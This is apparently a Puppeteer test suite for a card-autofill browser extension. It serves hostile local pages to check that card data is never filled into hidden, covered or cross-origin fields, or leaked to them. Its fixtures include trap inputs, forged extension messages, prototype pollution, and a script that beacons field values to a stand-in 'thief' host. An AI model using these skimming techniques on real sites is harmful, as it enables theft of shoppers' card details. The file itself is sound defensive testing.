// Pages that mean harm: what they fake, hide, move or flood gets them nothing.
import { createServer, type Server } from 'node:http';
import type { Frame, Page } from 'puppeteer';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { keptBy, openPayments, setAutoOpen } from '../world/checkout.ts';
import { fillPage } from '../world/filling.ts';
import { listenOn } from '../world/listen.ts';
import { press, shown } from '../world/shopper.ts';
import { World } from '../world/world.ts';

const FIELDS = `<label>Card number <input autocomplete="cc-number" data-card="number"></label>
  <label>Expiry <input autocomplete="cc-exp" data-card="expiry"></label>
  <label>CVC <input autocomplete="cc-csc" data-card="cvc"></label>`;
const TOTAL = '<table><tr><td>Total</td><td>€42.50</td></tr></table>';

let world: World;
let server: Server;
let port: number;
const pages = new Map<string, string>();

beforeAll(async () => {
  world = await World.start();
  await setAutoOpen(world, false);
  server = createServer((request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(
      `<!doctype html><html lang="en"><title>Pay – Evil</title>${pages.get(request.url ?? '') ?? ''}`,
    );
  });
  port = await listenOn(server);
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await world[Symbol.asyncDispose]();
});

/** Opens a page of our own making. */
async function open(body: string): Promise<Page> {
  const path = `/${pages.size}`;
  pages.set(path, body);
  const page = await world.browser.browser.newPage();
  await page.goto(`http://evil.localhost:${port}${path}`);
  return page;
}

/** Buys there, and looks at the card's screen; answers what each field of the page then holds. */
async function buy(page: Page, look?: (popup: Page) => Promise<void>): Promise<Record<string, string>> {
  const popup = await world.shopper.openPopup(page);
  await world.shopper.confirm(popup);
  await shown(popup, 'Save the receipt');
  await look?.(popup);
  await press(popup, 'Close this card').catch(() => undefined);
  await shown(popup, 'Send code to');
  return page.evaluate(() =>
    Object.fromEntries(
      [...document.querySelectorAll('input')].map(({ id, dataset, value }) => [
        id || (dataset['card'] ?? ''),
        value,
      ]),
    ),
  );
}

/** What did not land can be copied from its line; what was copied is caught before the clipboard. */
async function copyTheName(popup: Page): Promise<void> {
  await shown(popup, 'name on the card: copy it yourself');
  const copied = popup.evaluate(
    () =>
      new Promise((done) => {
        navigator.clipboard.writeText = async (text) => done(text);
      }),
  );
  // Not by the mouse: the popup may still grow.
  await popup.$eval('button[aria-label="Copy the name on the card"]', (button) =>
    (button as HTMLButtonElement).click(),
  );
  expect(await copied).toBe('Ada Example');
}

/** What the fields of a page or frame hold. */
function valuesIn(where: Page | Frame): Promise<string[]> {
  return where.$$eval('input', (inputs) => inputs.map(({ value }) => value));
}

test('fields that nobody can see, and those of a stranger, are not filled', async () => {
  const trap = (id: string, style: string) =>
    `<div style="${style}"><input id="${id}" autocomplete="cc-name" style="width:200px"></div>`;
  const page = await open(`${TOTAL}${FIELDS}
    ${trap('offscreen', 'position:absolute;left:-9999px')}
    ${trap('transparent', 'opacity:0')}
    ${trap('nearly', 'opacity:0.02')}
    ${trap('invisible', 'visibility:hidden')}
    ${trap('gone', 'display:none')}
    ${trap('filtered', 'filter:opacity(1%)')}
    ${trap('clipped', 'clip-path:inset(50%)')}
    ${trap('cut', 'width:0;height:0;overflow:hidden')}
    ${trap('shrunk', 'transform:scale(0)')}
    ${trap('behind', 'position:relative;z-index:-1')}
    <div style="position:relative;background:white;margin-top:-40px;height:60px">Thank you for shopping here</div>
    <input id="kept" type="hidden" name="cc-number" autocomplete="cc-number">
    <input id="ticked" type="checkbox" name="cc-number" autocomplete="cc-number" value="">
    <iframe src="http://thief.localhost:${port}/form" width="600" height="200"></iframe>
    <input id="dot" autocomplete="cc-name" style="width:1px;height:1px;padding:0;border:0">
    <div style="position:relative;width:300px;height:40px"><input id="covered" autocomplete="cc-name" style="position:absolute;inset:0">
      <div style="position:absolute;inset:0;background:white">A picture</div></div>`);
  pages.set('/form', FIELDS);
  const frame = await page.waitForFrame((one) => one.url().endsWith('/form'));
  await frame.goto(frame.url());
  const { number, expiry, cvc, ...traps } = await buy(page, copyTheName);
  expect(number).toMatch(/^\d{16}$/);
  expect([expiry, cvc].join(' ')).toMatch(/^\d\d\/\d\d \d{3}$/);
  expect(traps).toEqual(Object.fromEntries(Object.keys(traps).map((id) => [id, ''])));
  expect(Object.keys(traps)).toHaveLength(14);
  expect(await valuesIn(frame)).toEqual(['', '', '']);
  await page.close();
});

test('messages that a page fakes reach nobody', async () => {
  const page = await open(`${TOTAL}${FIELDS}<script>
    const fake = { command: 'settings', settings: { on: false, autoOpen: false, never: [] } };
    postMessage(fake, '*'); dispatchEvent(new CustomEvent('message', { detail: fake }));
    globalThis.chrome?.runtime?.sendMessage?.('${world.browser.extensionId}', fake, () => void chrome.runtime.lastError);
    globalThis.fillCardHere = (order) => { globalThis.stolen = order; };
  </script>`);
  const popup = await world.shopper.openPopup(page);
  await shown(popup, '42.50');
  expect((await keptBy(world, 'local'))['settings']).toMatchObject({ on: true });
  await world.browser.closePopup();
  await buy(page);
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  await page.close();
});

test('a form that moves to a frame of another origin after the shopper confirmed is asked about, not filled', async () => {
  const page = await open(`${TOTAL}<form>${FIELDS}</form>`);
  pages.set('/stolen', FIELDS);
  const popup = await world.shopper.openPopup(page);
  const before = await world.shopper.sendCode(popup);
  const code = await world.shopper.device.codeAfter(before);
  const loaded = page.waitForFrame((frame) => frame.url().endsWith('/stolen'));
  await page.evaluate((src) => {
    document.querySelector('form')?.remove();
    document.body.append(Object.assign(document.createElement('iframe'), { src }));
  }, `http://thief.localhost:${port}/stolen`);
  const frame = await loaded;
  await frame.waitForSelector('input');
  await world.shopper.typeCode(popup, code);
  await shown(popup, `frame of thief.localhost:${port}`);
  expect(await frame.$$eval('input', (inputs) => inputs.map(({ value }) => value).join(''))).toBe('');
  await press(popup, 'Close this card');
  await shown(popup, 'Send code to');
  await page.close();
});

test('a page that goes to another origin while the code is typed: cancelled', async () => {
  const page = await open(`${TOTAL}${FIELDS}`);
  const popup = await world.shopper.openPopup(page);
  const before = await world.shopper.sendCode(popup);
  const code = await world.shopper.device.codeAfter(before);
  await world.browser.closePopup();
  await page.goto(`http://evil2.localhost:${port}${new URL(page.url()).pathname}`);
  const again = await world.shopper.openPopup(page);
  await world.shopper.typeCode(again, code);
  await shown(again, 'The payment was cancelled');
  expect((await openPayments(world))[0]?.card).toBeUndefined();
  await page.close();
});

test('prototypes that a page has spoiled change nothing', async () => {
  const page = await open(`${TOTAL}${FIELDS}<script>
    Object.prototype.origin = 'http://thief.localhost'; Array.prototype.flatMap = () => [];
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'x', set(text) { globalThis.stolen = text; } });
    String.prototype.replace = () => '€1.00'; Document.prototype.querySelectorAll = () => []; Element.prototype.checkVisibility = () => true;
  </script>`);
  const popup = await world.shopper.openPopup(page);
  await shown(popup, '42.50');
  await world.shopper.confirm(popup);
  await shown(popup, 'card number: filled in');
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  await press(popup, 'Close this card');
  await shown(popup, 'Send code to');
  await page.close();
});

// How much of its time a look takes is the bench's to say.
test('a page that never stops changing is read and paid', async () => {
  const page = await open(`${TOTAL}${FIELDS}<p id="noise"></p><script>
    let count = 0; setInterval(() => { for (let i = 0; i < 200; i += 1) { const b = document.createElement('b'); b.className = 'x' + count++; noise.append(b); if (noise.childNodes.length > 500) noise.replaceChildren(); } }, 5);
  </script>`);
  const popup = await world.shopper.openPopup(page);
  await shown(popup, '42.50');
  await world.shopper.confirm(popup);
  await shown(popup, 'card number: filled in');
  await press(popup, 'Close this card');
  await shown(popup, 'Send code to');
  await page.close();
});

test('frames of the shop that nobody can see, or that are nobody’s, are not filled', async () => {
  pages.set('/form', FIELDS);
  const inside = FIELDS.replaceAll('"', '&quot;');
  const page =
    await open(`${FIELDS}<iframe id="seen" src="/form" width="600"></iframe><iframe src="/form" style="opacity:0"></iframe><div style="opacity:0.01"><iframe src="/form"></iframe></div>
    <iframe src="/form" style="position:absolute;left:-9999px"></iframe><iframe src="/form" style="visibility:hidden"></iframe>
    <iframe src="/form" style="width:1px;height:1px"></iframe>
    <iframe id="written" srcdoc="${inside}" width="600"></iframe><iframe sandbox="allow-scripts allow-forms" srcdoc="${inside}" width="600"></iframe>
    <div style="width:0;height:0;overflow:hidden"><iframe src="/form"></iframe></div>
`);
  await fillPage(world.browser, page);
  const seen = await Promise.all(['#seen', '#written'].map(async (id) => (await page.$(id))?.contentFrame()));
  for (const frame of page.frames()) {
    const isSeen = frame === page.mainFrame() || seen.includes(frame);
    const styled = await (await frame.frameElement())?.evaluate((one) => one.outerHTML);
    expect((await valuesIn(frame)).join('') !== '', styled ?? 'the page').toBe(isSeen);
  }
  await page.close();
});

test('a field that is hidden, or changed for another, as soon as the keyboard enters it is not filled', async () => {
  const page = await open(`${FIELDS}<script>
    const [number, expiry, cvc] = document.querySelectorAll('input');
    number.addEventListener('focus', () => { number.style.position = 'absolute'; number.style.left = '-9999px'; });
    expiry.addEventListener('focus', () => { expiry.type = 'hidden'; });
    cvc.addEventListener('focus', () => { cvc.remove(); });
  </script>`);
  const [number, expiry, cvc] = await page.$$('input');
  expect(await fillPage(world.browser, page)).toEqual({ number: 'rejected', expiry: 'rejected' });
  for (const field of [number, expiry, cvc])
    expect(await field?.evaluate((one) => (one as HTMLInputElement).value)).toBe('');
  await page.close();
});

test('a page that takes the card out of its fields at once is told of', async () => {
  const page = await open(`${FIELDS}<script>for (const field of document.querySelectorAll('input'))
    field.addEventListener('input', () => { new Image().src = 'http://thief.localhost:9/?' + field.value; field.value = ''; });</script>`);
  const gone = { number: 'emptied', expiry: 'emptied', cvc: 'emptied' };
  expect(await fillPage(world.browser, page)).toEqual(gone);
  await page.close();
});

test('a form that would send the card unencrypted gets nothing, whatever its fields are called', async () => {
  const insecure = [
    'action="http://thief.example/take"',
    'action="https://ok.example"><button formaction="http://thief.example">Pay</button',
  ];
  for (const attributes of insecure) {
    const page = await open(`<form ${attributes}><input name="action" type="hidden">${FIELDS}</form>`);
    const unsafe = { number: 'unsafe', expiry: 'unsafe', cvc: 'unsafe' };
    expect(await fillPage(world.browser, page)).toEqual(unsafe);
    expect((await valuesIn(page)).join('')).toBe('');
    await page.close();
  }
});

test('fields that come and go at every frame keep nobody waiting', async () => {
  const page = await open(`<div id="form"></div><script>
    const make = () => { form.innerHTML = '<p>' + ${JSON.stringify(FIELDS)} + '</p>'; };
    make(); (function again() { make(); requestAnimationFrame(again); })();
  </script>`);
  const outcomes = Object.values(await fillPage(world.browser, page));
  expect(outcomes.filter((one) => one === 'altered' || one === 'unsafe')).toEqual([]);
  await page.close();
});

test('a page of a hundred thousand nodes is read and filled', async () => {
  const page = await open(`${TOTAL}${FIELDS}<script>
    const many = document.createDocumentFragment();
    for (let i = 0; i < 1e5; i += 1) many.append(document.createElement('i'));
    document.body.append(many);
  </script>`);
  const popup = await world.shopper.openPopup(page);
  await shown(popup, '42.50');
  await world.browser.closePopup();
  expect(await fillPage(world.browser, page)).toEqual({ number: 'filled', expiry: 'filled', cvc: 'filled' });
  await page.close();
});
